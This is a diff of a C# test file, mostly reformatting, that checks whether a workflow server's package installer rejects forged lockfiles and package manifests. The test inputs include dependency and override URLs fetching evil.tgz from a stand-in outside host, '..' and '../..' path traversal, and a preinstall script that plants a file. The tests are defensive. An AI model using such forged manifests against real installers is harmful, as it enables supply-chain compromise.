@@ -18,19 +18,26 @@ public sealed class ForgedPackageTests : PackageRig
         var files = Workflow(Returning("ms", "import ms from 'ms@2.1.0'"));
         await server!.DeployAsync("orders", files);
         var version = await server.Http.GetFromJsonAsync<JsonElement>("/api/v1/workflows/orders/versions/1", Ct);
-        string locked = version.GetProperty("files").GetProperty("sendoff-lock.json").GetString()!, evil = string.Format(null, source, elsewhere.Address);
+        string locked = version.GetProperty("files").GetProperty("sendoff-lock.json").GetString()!,
+            evil = string.Format(null, source, elsewhere.Address);
 
-        foreach (string bent in (string[])
-        [
-            locked.Replace("\"ms\": \"2.1.0\"\n      }", $"\"ms\": \"{evil}\"\n      }}"),
-            locked.Replace("\"version\": \"2.1.0\",", $"\"version\": \"{evil}\","),
-            locked.Replace("\"version\": \"2.1.0\",", $"\"version\": \"2.1.0\", \"dependencies\": {{ \"evil\": \"{evil}\" }},"),
-            locked.Replace("\"version\": \"2.1.0\",", $"\"version\": \"2.1.0\", \"resolved\": \"{evil}\","),
-            locked.Replace("\"lockfileVersion\": 3", $"\"lockfileVersion\": 1, \"dependencies\": {{ \"ms\": {{ \"version\": \"{evil}\" }} }}"),
-        ])
+        foreach (
+            string bent in (string[])
+                [
+                    locked.Replace("\"ms\": \"2.1.0\"\n      }", $"\"ms\": \"{evil}\"\n      }}"),
+                    locked.Replace("\"version\": \"2.1.0\",", $"\"version\": \"{evil}\","),
+                    locked.Replace("\"version\": \"2.1.0\",", $"\"version\": \"2.1.0\", \"dependencies\": {{ \"evil\": \"{evil}\" }},"),
+                    locked.Replace("\"version\": \"2.1.0\",", $"\"version\": \"2.1.0\", \"resolved\": \"{evil}\","),
+                    locked.Replace(
+                        "\"lockfileVersion\": 3",
+                        $"\"lockfileVersion\": 1, \"dependencies\": {{ \"ms\": {{ \"version\": \"{evil}\" }} }}"
+                    ),
+                ]
+        )
         {
             Assert.NotEqual(locked, bent);
-            foreach (string installed in Installed) Directory.Delete(installed, recursive: true);
+            foreach (string installed in Installed)
+                Directory.Delete(installed, recursive: true);
             Assert.Equal("ms 2.1.0", await ValueAsync(await server.DeployAsync("orders", new(files) { ["sendoff-lock.json"] = bent })));
         }
         Assert.Equal(0, elsewhere.Connections);
@@ -46,11 +53,21 @@ public sealed class ForgedPackageTests : PackageRig
         using var elsewhere = new Elsewhere();
         using var private_ = new TempFolder();
         await File.WriteAllTextAsync(Path.Combine(private_.Path, "package.json"), """{ "name": "inner", "version": "1.0.0" }""", Ct);
-        registry.Publish("outer", "1.0.0", new() { ["index.js"] = "module.exports = require('inner')" },
-            $$"""{ "dependencies": { "inner": "{{string.Format(null, source, elsewhere.Address, private_.Path)}}" } }""");
+        registry.Publish(
+            "outer",
+            "1.0.0",
+            new() { ["index.js"] = "module.exports = require('inner')" },
+            $$"""{ "dependencies": { "inner": "{{string.Format(null, source, elsewhere.Address, private_.Path)}}" } }"""
+        );
         await StartAsync();
 
-        AssertAt(await ProblemAsync(Workflow(Returning("a", "import a from 'outer'"))), "step.mjs", 1, 15, "a package is not the registry's");
+        AssertAt(
+            await ProblemAsync(Workflow(Returning("a", "import a from 'outer'"))),
+            "step.mjs",
+            1,
+            15,
+            "a package is not the registry's"
+        );
         Assert.Equal(0, elsewhere.Connections);
         Assert.Empty(Installed);
     }
@@ -58,12 +75,17 @@ public sealed class ForgedPackageTests : PackageRig
     [Fact]
     public async Task A_package_with_others_inside_of_it_is_installed_and_found_by_runs()
     {
-        registry.Publish("outer", "1.0.0", new()
-        {
-            ["index.js"] = "module.exports = require('inner')",
-            ["node_modules/inner/index.js"] = "module.exports = 'bundled'",
-            ["node_modules/inner/package.json"] = """{ "name": "inner", "version": "1.0.0" }""",
-        }, """{ "dependencies": { "inner": "1.0.0" }, "bundleDependencies": [ "inner" ] }""");
+        registry.Publish(
+            "outer",
+            "1.0.0",
+            new()
+            {
+                ["index.js"] = "module.exports = require('inner')",
+                ["node_modules/inner/index.js"] = "module.exports = 'bundled'",
+                ["node_modules/inner/package.json"] = """{ "name": "inner", "version": "1.0.0" }""",
+            },
+            """{ "dependencies": { "inner": "1.0.0" }, "bundleDependencies": [ "inner" ] }"""
+        );
         await StartAsync();
         Assert.Equal("bundled", await ValueAsync(await server!.DeployAsync("orders", Workflow(Returning("a", "import a from 'outer'")))));
     }
@@ -74,11 +96,17 @@ public sealed class ForgedPackageTests : PackageRig
         using var elsewhere = new Elsewhere();
         registry.Publish("ms", "2.1.0");
         await StartAsync();
-        foreach (string manifest in (string[])
-        [
-            $$"""{ "dependencies": { "ms": "http://{{elsewhere.Address}}/evil.tgz" } }""", """{ "dependencies": { "ms": ".." } }""", """{ "dependencies": { "ms": "evil.tgz" } }""",
-            $$"""{ "overrides": { "ms": "http://{{elsewhere.Address}}/evil.tgz" } }""", """{ "workspaces": [ "../.." ] }""", $$"""{ "scripts": { "preinstall": "touch {{folder.Path}}/planted" } }""",
-        ])
+        foreach (
+            string manifest in (string[])
+                [
+                    $$"""{ "dependencies": { "ms": "http://{{elsewhere.Address}}/evil.tgz" } }""",
+                    """{ "dependencies": { "ms": ".." } }""",
+                    """{ "dependencies": { "ms": "evil.tgz" } }""",
+                    $$"""{ "overrides": { "ms": "http://{{elsewhere.Address}}/evil.tgz" } }""",
+                    """{ "workspaces": [ "../.." ] }""",
+                    $$"""{ "scripts": { "preinstall": "touch {{folder.Path}}/planted" } }""",
+                ]
+        )
         {
             var files = Workflow(Returning("ms", "import ms from 'ms'"));
             files["package.json"] = manifest;
